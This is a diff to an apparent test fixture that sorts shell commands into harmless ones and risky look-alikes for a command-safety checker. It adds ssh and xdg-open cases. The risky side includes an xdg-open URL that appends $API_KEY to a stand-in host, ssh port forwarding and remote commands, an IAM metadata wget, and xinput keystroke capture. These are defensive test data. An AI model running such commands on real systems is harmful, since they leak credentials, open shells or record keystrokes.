@@ -89,6 +89,14 @@ HARMLESS_AND_NOT = {
             "wget -qO- http://x.example/latest/meta-data/iam",
         ),
     ),
+    "a server of repositories greets, and has no shell": (
+        ("ssh -T git@github.com", "ssh git@gitlab.acme.com", "ssh -vT git@x.example"),
+        ("ssh me@x.example", "ssh git@x.example ls", "ssh -L 80:x:80 git@x.example"),
+    ),
+    "a document is shown, a program is run": (
+        ("xdg-open docs/index.html", "xdg-open https://x.example/docs", "open README.md"),
+        ("xdg-open x.desktop", "xdg-open ./run", "xdg-open https://x.example/$API_KEY"),
+    ),
     "the keyboard": (
         ("xinput list", "xinput --version"),
         ("xinput test 3", "xinput test-xi2 --root"),
